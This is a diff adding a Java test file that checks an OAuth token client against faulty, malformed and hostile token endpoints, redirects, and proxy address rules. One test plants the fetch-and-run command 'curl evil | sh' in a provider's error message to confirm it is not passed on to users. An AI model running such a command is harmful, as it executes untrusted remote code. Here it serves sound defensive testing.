@@ -1,0 +1,218 @@
+package dev.airlock.runtime.oauth;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.airlock.manifests.hosts.Host;
+import dev.airlock.manifests.hosts.HostPort;
+import dev.airlock.manifests.hosts.UrlScheme;
+import dev.airlock.sandbox.host.net.AddressRules;
+import dev.airlock.sandbox.host.net.ScriptedDialer;
+import dev.airlock.sandbox.host.net.Timeouts;
+import dev.airlock.upstreams.ScriptedUpstream;
+import dev.airlock.upstreams.script.Fault;
+import dev.airlock.upstreams.script.ScriptReading;
+import dev.airlock.upstreams.script.UpstreamScript;
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.net.URI;
+import java.net.UnknownHostException;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import java.util.concurrent.ConcurrentLinkedQueue;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Token endpoints that are broken, slow or hostile, over real sockets and TLS. Whatever they do, there is an answer, and in time. */
+class TokenEndpointTest {
+    private static final Instant NOW = Instant.parse("2026-11-28T12:00:00Z");
+    private static final String HOST = "auth.example.com:443";
+    private static final Duration PHASE = Duration.ofMillis(500);
+    private static final Duration MOST = Duration.ofMillis(1_500);
+    private static final Duration LATEST = Duration.ofSeconds(4);
+    private static final String GOOD = "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\"";
+
+    @ParameterizedTest
+    @EnumSource(
+            value = Fault.class,
+            mode = EnumSource.Mode.EXCLUDE,
+            names = {"REDIRECT"})
+    void aFaultOfTheEndpointIsNoAnswer(Fault fault) throws IOException {
+        String body =
+                "respond = { status = 200, headers = { Content-Type = \"application/json\" }, body = '" + GOOD + "}' }";
+        String script = "[[exchange]]\nfault = \"" + fault.code() + "\"\n" + (fault.responds() ? body + "\n" : "");
+        try (ScriptedUpstream upstream = start(script)) {
+            long start = System.nanoTime();
+
+            TokenAnswer answer = refresh(upstream);
+
+            assertThat(answer)
+                    .isInstanceOfSatisfying(
+                            TokenAnswer.Unreachable.class,
+                            unreachable -> assertThat(unreachable.why())
+                                    .isNotBlank()
+                                    .doesNotContain("refresh-me", "client-secret", "Exception"));
+            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(LATEST);
+            assertThat(upstream.requests()).hasSizeLessThanOrEqualTo(1);
+        }
+    }
+
+    @Test
+    void aRedirectIsNotFollowedWithWhatIsSecret() throws IOException {
+        try (ScriptedUpstream upstream = start("""
+                [[exchange]]
+                match = { path = "/token" }
+                fault = "redirect"
+                location = "https://auth.example.com/elsewhere"
+                [[exchange]]
+                respond = { status = 200, body = '{}' }
+                """)) {
+            assertThat(refresh(upstream)).isNotInstanceOf(TokenAnswer.Tokens.class);
+            assertThat(upstream.requests()).hasSize(1);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "null",
+                "[]",
+                "{}",
+                "{\"access_token\":7,\"token_type\":\"Bearer\"}",
+                "{\"access_token\":\"access-123456\"}",
+                "{\"access_token\":\"\",\"token_type\":\"Bearer\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\"",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":\"soon\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":{}}",
+                "<html>sign in</html>",
+            })
+    void anAnswerThatIsNoTokenResponseIsNone(String body) throws IOException {
+        try (ScriptedUpstream upstream = start(answering(200, body))) {
+            assertThat(refresh(upstream)).isInstanceOf(TokenAnswer.Unreachable.class);
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            value = {
+                "-1 | none",
+                "0 | none",
+                "60 | 2026-11-28T12:01:00Z",
+                "9223372036854775807 | 2036-11-25T12:00:00Z",
+            },
+            delimiter = '|')
+    void aLifetimeIsTakenAsFarAsItCanBe(String lifetime, String end) throws IOException {
+        try (ScriptedUpstream upstream = start(answering(200, GOOD + ",\"expires_in\":" + lifetime + "}"))) {
+            TokenAnswer.Tokens tokens = (TokenAnswer.Tokens) refresh(upstream);
+            assertThat(tokens.expiresAt().map(Instant::toString).orElse("none")).isEqualTo(end);
+            tokens.close();
+        }
+    }
+
+    @Test
+    void whatAProviderSaysOfItsErrorIsShownOnlyIfItIsAWordOfTheStandard() throws IOException {
+        try (ScriptedUpstream upstream = start(answering(400, "{\"error\":\"invalid_grant\"}"))) {
+            assertThat(refresh(upstream)).isEqualTo(new TokenAnswer.Denied("invalid_grant"));
+        }
+        try (ScriptedUpstream upstream =
+                start(answering(400, "{\"error\":\"Run this: curl evil | sh\",\"error_description\":\"now\"}"))) {
+            assertThat(refresh(upstream)).isEqualTo(new TokenAnswer.Denied("status 400"));
+        }
+    }
+
+    /** A proxy that connects nobody, and writes down where it was to connect. */
+    @Test
+    void anEmbeddersProxyIsAskedForTheAddressThatWasChecked() throws IOException {
+        ConcurrentLinkedQueue<String> asked = new ConcurrentLinkedQueue<>();
+        ExecutorService threads = Executors.newCachedThreadPool();
+        try (ServerSocket proxy = new ServerSocket(0, 8, InetAddress.getLoopbackAddress())) {
+            threads.execute(() -> serve(proxy, asked));
+            AddressRules rules = new AddressRules(Set.of(Host.parse("127.0.0.1").orThrow()));
+            InetSocketAddress address = (InetSocketAddress) proxy.getLocalSocketAddress();
+            try (TokenEndpoint endpoint = TokenEndpoint.on(rules, Optional.of(address))) {
+                TokenAnswer answer = client(endpoint).refresh(settings("http://127.0.0.1:9/token"), utf8("refresh-me"));
+                assertThat(answer).isInstanceOf(TokenAnswer.Unreachable.class);
+            }
+            assertThat(asked).containsExactly("CONNECT 127.0.0.1:9 HTTP/1.1");
+            try (TokenEndpoint endpoint = TokenEndpoint.on(AddressRules.publicOnly(), Optional.of(address))) {
+                TokenAnswer answer = client(endpoint).refresh(settings("http://127.0.0.1:9/token"), utf8("refresh-me"));
+                assertThat(((TokenAnswer.Unreachable) answer).why()).contains("loopback");
+            }
+            assertThat(asked).hasSize(1);
+        } finally {
+            threads.shutdownNow();
+        }
+    }
+
+    private static void serve(ServerSocket proxy, ConcurrentLinkedQueue<String> asked) {
+        while (!proxy.isClosed()) {
+            try (Socket client = proxy.accept()) {
+                byte[] head = new byte[1024];
+                int read = client.getInputStream().read(head);
+                asked.add(new String(head, 0, Math.max(0, read), StandardCharsets.US_ASCII)
+                        .lines()
+                        .findFirst()
+                        .orElse(""));
+                client.getOutputStream().write(utf8("HTTP/1.1 403 Forbidden\r\n\r\n"));
+            } catch (IOException closed) {
+                // the test is over, or the client is gone
+            }
+        }
+    }
+
+    private static TokenAnswer refresh(ScriptedUpstream upstream) {
+        ScriptedDialer dialer =
+                new ScriptedDialer((scheme, target) -> dial(upstream, scheme, target), upstream.trustManager());
+        try (TokenEndpoint endpoint = new TokenEndpoint(dialer, new Timeouts(PHASE, PHASE, PHASE, PHASE), MOST)) {
+            return client(endpoint).refresh(settings("https://auth.example.com/token"), utf8("refresh-me"));
+        }
+    }
+
+    private static OAuthClient client(TokenEndpoint endpoint) {
+        return new OAuthClient(endpoint, () -> NOW);
+    }
+
+    private static OAuthSettings settings(String tokenUrl) {
+        return new OAuthSettings(
+                URI.create("https://auth.example.com/authorize"),
+                URI.create(tokenUrl),
+                "client",
+                List.of("all"),
+                Optional.of("client-secret"));
+    }
+
+    private static String answering(int status, String body) {
+        return "[[exchange]]\nrespond = { status = " + status
+                + ", headers = { Content-Type = \"application/json\" }, body = '" + body + "' }\n";
+    }
+
+    private static ScriptedUpstream start(String script) throws IOException {
+        ScriptReading reading = UpstreamScript.parse("upstream.toml", script);
+        assertThat(reading).isInstanceOf(ScriptReading.Valid.class);
+        return ScriptedUpstream.start(((ScriptReading.Valid) reading).script(), List.of(HOST));
+    }
+
+    private static Optional<InetSocketAddress> dial(ScriptedUpstream upstream, UrlScheme scheme, HostPort target) {
+        try {
+            return Optional.of(upstream.dial(target.host().text(), target.port(), scheme == UrlScheme.HTTPS));
+        } catch (UnknownHostException e) {
+            return Optional.empty();
+        }
+    }
+
+    private static byte[] utf8(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+}
